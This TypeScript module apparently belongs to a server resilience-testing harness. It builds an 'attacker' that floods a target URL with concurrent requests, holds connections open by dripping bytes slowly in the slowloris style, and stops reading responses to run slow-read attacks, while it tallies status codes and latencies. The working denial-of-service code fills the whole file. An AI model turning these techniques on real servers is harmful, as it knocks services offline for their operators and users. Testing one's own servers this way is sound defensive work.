import { Agent, request as httpRequest } from "node:http";
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attacker, AttackRequest, HeldConnection, Tally, Target } from "./attack.ts";

// An attacker that was refused leaves the processors to the attack for a moment.
const pauseMs = 20;
const reconnectMs = 250;
const dripMs = 1000;

/** Returns the means of an attack and the tally that they fill. */
export function createAttacker(target: Target, seconds: number): { attacker: Attacker; tally: Tally } {
  const tally: Tally = { answers: {}, largestError: 0, slowestMs: 0 };
  const ends = performance.now() + seconds * 1000;
  const agent = new Agent({ keepAlive: true, maxSockets: Infinity });
  const { hostname, port } = new URL(target.url);
  const isOver = () => performance.now() >= ends;

  function count(status: number | "failed", bytes: number): void {
    tally.answers[status] = (tally.answers[status] ?? 0) + 1;
    if (typeof status === "number" && status >= 400) tally.largestError = Math.max(tally.largestError, bytes);
  }

  async function send({ path, body, headers = {}, address, method }: AttackRequest): Promise<void> {
    const started = performance.now();
    const failed = await new Promise<boolean>((resolve) => {
      const length = body === undefined ? {} : { "Content-Length": String(Buffer.byteLength(body)) };
      const request = httpRequest(
        target.url + path,
        {
          agent,
          localAddress: address ?? target.address,
          method: method ?? (body === undefined ? "GET" : "POST"),
          headers: { ...headers, ...length },
        },
        (response) => {
          let bytes = 0;
          const done = () => {
            // The server does not read the rest of a body that it refuses.
            if (!request.writableFinished) request.destroy();
            count(response.statusCode ?? 0, bytes);
            resolve(false);
          };
          response.on("data", (chunk: Buffer) => (bytes += chunk.length));
          response.once("end", done);
          response.once("error", done);
        },
      );
      request.once("error", () => resolve(true));
      request.end(body);
    });
    tally.slowestMs = Math.max(tally.slowestMs, performance.now() - started);
    if (!failed) return;
    count("failed", 0);
    await sleep(pauseMs);
  }

  async function flood(clients: number, next: (index: number) => AttackRequest): Promise<void> {
    let index = 0;
    const client = async () => {
      while (!isOver()) await send(next(index++));
    };
    await Promise.all(Array.from({ length: clients }, client));
  }

  /** Keeps one connection until the server closes it or the time is over. */
  async function keep({ start, drip, reads = true, endsAtAnswer = false }: HeldConnection): Promise<void> {
    const socket: Socket = connect({ host: hostname, port: Number(port), localAddress: target.address });
    let received = "";
    let bytes = 0;
    const dripping = setInterval(() => drip !== undefined && socket.write(drip), dripMs);
    const left = setTimeout(() => socket.destroy(), Math.max(0, ends - performance.now()));
    await new Promise<void>((resolve) => {
      socket.once("close", () => resolve());
      socket.once("error", () => count("failed", 0));
      if (reads)
        socket.on("data", (chunk: Buffer) => {
          bytes += chunk.length;
          if (received.length < 100) received += chunk.toString("latin1");
          if (endsAtAnswer) socket.destroy();
        });
      // Without a reader the answer fills the buffers of both ends and stays there.
      else socket.pause();
      socket.write(start);
    });
    clearInterval(dripping);
    clearTimeout(left);
    const status = /^HTTP\/1\.1 (\d{3})/.exec(received)?.[1];
    if (status) count(Number(status), bytes);
  }

  return {
    tally,
    attacker: {
      target,
      isOver,
      send,
      flood,
      async hold(connections, next) {
        await Promise.all(
          Array.from({ length: connections }, async (_, index) => {
            while (!isOver()) {
              await keep(next(index));
              await sleep(reconnectMs);
            }
          }),
        );
      },
    },
  };
}
